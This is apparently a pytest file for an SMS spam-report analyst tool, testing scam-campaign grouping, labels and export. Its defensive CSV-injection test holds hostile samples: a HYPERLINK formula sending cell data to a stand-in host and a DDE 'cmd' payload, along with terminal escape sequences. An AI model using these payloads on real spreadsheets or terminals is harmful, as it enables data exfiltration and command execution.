"""engine/analyst: campaign grouping, the label log, export and compare on unlabelled text (the terminal UI driven by
textual's Pilot: test_analyst_tui.py; promote/rollback: test_analyst_promote.py)."""
import json
import subprocess
import sys
import threading

import pytest

from engine.analyst.campaigns import group, jaccard, shingles
from engine.analyst.export import labelled_rows, render
from engine.analyst.store import LabelLog, StoreError, Workspace
from engine.ml.data import read_dataset

from .conftest import ROOT

PRIZE = "Ban da trung thuong 50.000.000d tu chuong trinh tri an, nhan thuong tai http://bit.ly/abc truoc 12h"
PRIZE_VI = "Bạn đã trúng thưởng 20.000.000đ từ chương trình tri ân, nhận thưởng tại http://x.co/z9 trước 12h"
PRIZE_MORE = "Chuc mung ban da trung thuong 50.000.000d tu chuong trinh tri an, vui long nhan thuong tai http://bit.ly/q truoc 12h"
HOME = "Anh oi toi nay an com o nha nhe, em nau canh chua"
LOAN = "Vay tien nhanh khong can the chap, giai ngan trong 30 phut, lai suat 0% thang dau, goi 0901234567"
BUNDLED = ROOT / "engine/ml/default_model"


def _store(d, texts, kind="S"):
    d.mkdir(parents=True, exist_ok=True)
    with open(d / "reports.jsonl", "a") as f:
        for i, t in enumerate(texts):
            f.write(json.dumps({"reporter": f"8491200{i:04d}", "reported": "84987654321", "content": t,
                                "time": f"2026-11-30T10:{i % 60:02d}:00+07:00", "kind": kind, "label": None},
                               ensure_ascii=False) + "\n")
    return d / "reports.jsonl"


def _cli(*args):
    return subprocess.run([sys.executable, "-m", "engine.cli", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=300)


# ------------------------------------------------------------------ grouping
def test_near_duplicates_group_and_unrelated_texts_do_not():
    texts = [PRIZE, HOME, PRIZE_VI, LOAN, "", PRIZE_MORE, PRIZE]
    assert group(texts) == [0, 1, 0, 3, 4, 0, 0]


def test_similarity_is_the_threshold():
    j = jaccard(shingles(PRIZE), shingles(PRIZE_MORE))
    assert 0.5 < j < 1
    assert group([PRIZE, PRIZE_MORE], similarity=min(1.0, j + 0.01)) == [0, 1]
    assert group([PRIZE, PRIZE_MORE], similarity=j) == [0, 0]
    with pytest.raises(ValueError):
        group([PRIZE], similarity=0)


def test_a_large_campaign_joins_through_its_recent_members():
    # more variants than a bucket keeps: every one still joins the first report's campaign
    texts = [PRIZE.replace("50.000.000d", f"{n}.000.000d").replace("abc", f"a{n}") for n in range(200)]
    texts += [HOME]
    g = group(texts)
    assert set(g[:200]) == {0} and g[200] == 200


# ------------------------------------------------------------------ labels and export
def test_labels_go_beside_the_store_which_is_never_written(tmp_path):
    store = _store(tmp_path, [PRIZE, PRIZE_VI, HOME, LOAN])
    with open(store, "a") as f:
        f.write("{not json\n")
        f.write(json.dumps({"content": 5, "kind": "S"}) + "\n")
    before = store.read_bytes()
    ws = Workspace(tmp_path)
    assert ws.errors == [f"{store}:5: not JSON (Expecting property name enclosed in double quotes: line 1 column 2 (char 1))",
                         f"{store}:6: needs a string `content` and `kind` S, V or FW"]
    prize = ws.reports[0].campaign
    assert [len(c.reports) for c in ws.ordered_campaigns()] == [2, 1, 1]
    assert ws.label([prize], "spam") == 2
    assert ws.label([ws.reports[2].id[:6]], "ham") == 1             # a unique prefix names a report
    assert ws.label([prize], "spam") == 0                          # already so: nothing appended
    ws2 = Workspace(tmp_path)                                      # a fresh reader sees the same labels
    assert [r.label for r in ws2.reports] == ["spam", "spam", "ham", None]
    assert ws2.campaigns[prize].label == "spam"
    ws2.label([ws2.reports[1].id], None)                           # clear: the last line wins
    assert Workspace(tmp_path).campaigns[prize].label == "mixed"
    assert store.read_bytes() == before
    with pytest.raises(StoreError, match="no campaign"):
        ws2.resolve("cffffffffff")
    with pytest.raises(StoreError, match="starts with c"):
        ws2.resolve("x123")


def test_concurrent_label_writers_never_split_lines(tmp_path):
    log = LabelLog(tmp_path)
    ids = [f"r{i:010x}" for i in range(300)]

    def w(lab):
        for k in range(0, 300, 3):
            log.append(ids[k:k + 3], lab)
    ts = [threading.Thread(target=w, args=(lab,)) for lab in ("spam", "ham", "spam", "ham")]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    labels, errors = log.load()
    assert errors == [] and len(labels) == 300
    assert len((tmp_path / "labels.jsonl").read_text().splitlines()) == 1200


def test_export_is_read_back_by_ml_train_readers(tmp_path):
    _store(tmp_path, [PRIZE, PRIZE, PRIZE_VI, "Tab\there\nand a new line in a ham text, ok", HOME])
    ws = Workspace(tmp_path)
    ws.label([ws.reports[0].campaign], "spam")
    ws.label([r.id for r in ws.reports[3:]], "ham")
    for fmt, name in (("tsv", "x.tsv"), ("csv", "x.csv"), ("jsonl", "x.jsonl")):
        rows, conflicts = labelled_rows(ws.reports)
        (tmp_path / name).write_text(render(rows, fmt), encoding="utf-8")
        ds = read_dataset(tmp_path / name)
        assert ds.errors == [] and ds.labels == [1, 1, 0, 0], fmt      # the repeated PRIZE is one row
        assert ds.kinds == ["S"] * 4
    # the same text labelled both ways is left out and named
    ws.label([ws.reports[1].id], "ham")
    rows, conflicts = labelled_rows(ws.reports)
    assert len(rows) == 3 and len(conflicts) == 1
    rows, _ = labelled_rows(ws.reports, dedupe=False)
    assert len(rows) == 5


def test_export_defuses_spreadsheet_formulas_and_training_reads_the_texts_as_sent(tmp_path):
    """A reported text is the sender's: one beginning with =, +, -, @ must not run in the analyst's
    spreadsheet (CSV injection); the training readers give it back unchanged."""
    import csv
    import io
    evil = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+84912000001 goi ngay nhan qua", "-50% hom nay",
            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''-two quotes", "'plain apostrophe", HOME]
    _store(tmp_path, evil)
    ws = Workspace(tmp_path)
    ws.label([r.id for r in ws.reports], "spam")
    rows, _ = labelled_rows(ws.reports)
    for fmt, name in (("tsv", "x.tsv"), ("csv", "x.csv")):
        text = render(rows, fmt)
        (tmp_path / name).write_text(text, encoding="utf-8")
        cells = ([r["text"] for r in csv.DictReader(io.StringIO(text))] if fmt == "csv"
                 else [ln.split("\t")[-1] for ln in text.splitlines()[1:]])
        assert sorted(cells) == sorted(["'" + t if t[0] in "=+-@" or t[:2] in ("'=", "''") else t for t in evil])
        assert not [c for c in cells if c[0] in "=+-@"], fmt
        ds = read_dataset(tmp_path / name)
        assert ds.errors == [] and sorted(ds.texts) == sorted(evil), fmt


def test_reports_cli_errors(tmp_path):
    r = _cli("reports", "list", "--data-dir", tmp_path / "none")
    assert r.returncode == 2 and "no report store" in r.stderr
    _store(tmp_path / "d", [PRIZE])
    r = _cli("reports", "label", "spam", "cdeadbeef00", "--data-dir", tmp_path / "d")
    assert r.returncode == 2 and "no campaign with this id" in r.stderr
    assert not (tmp_path / "d" / "labels.jsonl").exists()
    r = _cli("reports", "list", "--data-dir", tmp_path / "d")
    assert r.returncode == 0 and "1 reports in 1 campaigns" in r.stdout
    # the reporters' column is named so (it read FROM, which the TUI calls reporters: first-use review)
    head = r.stdout.splitlines()[1].split()
    assert head[-2:] == ["REPORTERS", "SAMPLE"] and r.stdout.splitlines()[2].split()[5] == "1", r.stdout


# ------------------------------------------------------------------ compare
def test_compare_on_unlabelled_corpus_and_a_verdict_log(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text("".join(json.dumps({"kind": "sms", "sender": "x", "recipient": "y", "text": t,
                                          "time": "2026-11-30T10:00:00Z"}) + "\n" for t in (PRIZE, HOME, LOAN))
                      + json.dumps({"kind": "call", "caller": "1", "callee": "2", "time": "2026-11-30T10:00:00Z"}) + "\n")
    r = _cli("ml", "compare", "--model", BUNDLED, "--model", BUNDLED, "--data", corpus)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert out["messages"] == 3 and not out["labelled"] and out["changed"] == 0
    assert sum(out["models"][0]["actions"].values()) == 3 and "metrics" not in out["models"][0]
    log = tmp_path / "verdicts.jsonl"
    log.write_text(json.dumps({"id": "1", "action": "allow", "score": 0.0, "hits": []}) + "\n")
    r = _cli("ml", "compare", "--model", BUNDLED, "--data", log)
    assert r.returncode == 2 and "verdict log keeps no message text" in r.stderr and f"{log}:1" in r.stderr
    # serve's `--log FILE` is JSON lines whatever its name (README: `--log verdicts.log`, rotated `.1`); found by an
    # analyst pass: named so, it was refused as a TSV ('expected label<TAB>text'), the reason lost
    for name in ("verdicts.log", "verdicts.log.1"):
        log = tmp_path / name
        log.write_text(json.dumps({"ts": "2026-12-02T23:22:57+00:00", "kind": "sms", "action": "allow", "score": 0.0,
                                   "hits": []}) + "\n")
        r = _cli("ml", "compare", "--model", BUNDLED, "--data", log)
        assert r.returncode == 2 and "verdict log keeps no message text" in r.stderr and f"{log}:1" in r.stderr


def test_a_label_after_a_torn_line_is_kept_and_deep_nesting_is_a_bad_line(tmp_path):
    _store(tmp_path, [PRIZE, HOME])
    (tmp_path / "labels.jsonl").write_text('{"id":"rdeadbeef00","label":"sp')          # a crash mid-write
    ws = Workspace(tmp_path)
    cid = ws.reports[0].campaign
    r = _cli("reports", "label", "spam", cid, "--data-dir", tmp_path)
    assert r.returncode == 0 and '"labelled": 1' in r.stdout, r.stdout
    assert Workspace(tmp_path).reports[0].label == "spam"
    with open(tmp_path / "reports.jsonl", "a") as f:
        f.write("[" * 100000 + "\n")
    r = _cli("reports", "list", "--data-dir", tmp_path)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr


def test_reports_list_refuses_a_negative_limit(tmp_path):
    r = _cli("reports", "list", "--limit", "-1", "--data-dir", tmp_path)
    assert r.returncode == 2 and "must be 0 (all) or more" in r.stderr


def test_compare_names_a_tsv_or_csv_problem_in_its_own_terms(tmp_path):
    # a TSV with no usable row was reported as "first problem: FILE:1: not JSON", the fallback reader's complaint
    from engine.analyst.compare import read_messages
    from engine.ml.data import DataError
    (tmp_path / "h.tsv").write_text("label\ttext\n")
    (tmp_path / "m.tsv").write_text("label\ttext\nmaybe\thello\n")
    with pytest.raises(DataError) as ei:
        read_messages([tmp_path / "h.tsv"])
    assert "not JSON" not in str(ei.value) and "first problem" not in str(ei.value)
    with pytest.raises(DataError) as ei:
        read_messages([tmp_path / "m.tsv"])
    assert f"first problem: {tmp_path / 'm.tsv'}:2: label must be spam or ham" in str(ei.value)


def test_a_campaign_counts_the_numbers_and_the_sender_names_its_reports_name_apart(tmp_path):
    """Found at stop 46: since a 5656 report may name a sender (`S VCB …`, `reported` = "VCB"), a campaign's
    `reported_numbers` counted names as numbers, and one number written two ways (0987…, 84987…) twice."""
    d = tmp_path / "data"
    d.mkdir()
    with open(d / "reports.jsonl", "w") as f:
        for i, reported in enumerate(["84987654321", "0987654321", "+84987654321", "VCB", "vcb", "FE CREDIT"]):
            f.write(json.dumps({"reporter": f"8491200{i:04d}", "reported": reported, "content": PRIZE,
                                "time": f"2026-11-30T10:0{i}:00+07:00", "kind": "S", "label": None}) + "\n")
    ws = Workspace(d)
    (c,) = ws.campaigns.values()
    s = c.summary()
    assert (s["reports"], s["reported_numbers"], s["reported_senders"]) == (6, 1, 2)
    out = _cli("reports", "list", "--data-dir", d, "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout.splitlines()[0])["reported_senders"] == 2


def test_reports_show_and_list_json_escape_what_would_drive_a_terminal(tmp_path):
    """Found by an encodings probe (stop 47): `reports show` and `list --json` printed a report's C1 controls
    (U+009B is CSI to many terminals), DEL and direction overrides raw inside the JSON strings (JSON escapes only
    C0 controls): they are \\u escapes now, the same value to a JSON reader; Vietnamese stays as written."""
    text = "Khuyến mãi \x9b2J\x1b[31m lớn \u202enhất\x7f năm\u2028"
    _store(tmp_path, [text])
    for args in (["list", "--json"], ["show", Workspace(tmp_path).reports[0].id]):
        r = _cli("reports", *args, "--data-dir", tmp_path)
        assert r.returncode == 0, r.stderr
        assert r.stdout.rstrip("\n").isprintable(), repr(r.stdout)
        assert "Khuyến mãi" in r.stdout
        got = json.loads(r.stdout.splitlines()[0])
        assert got.get("content", got.get("sample")) == text
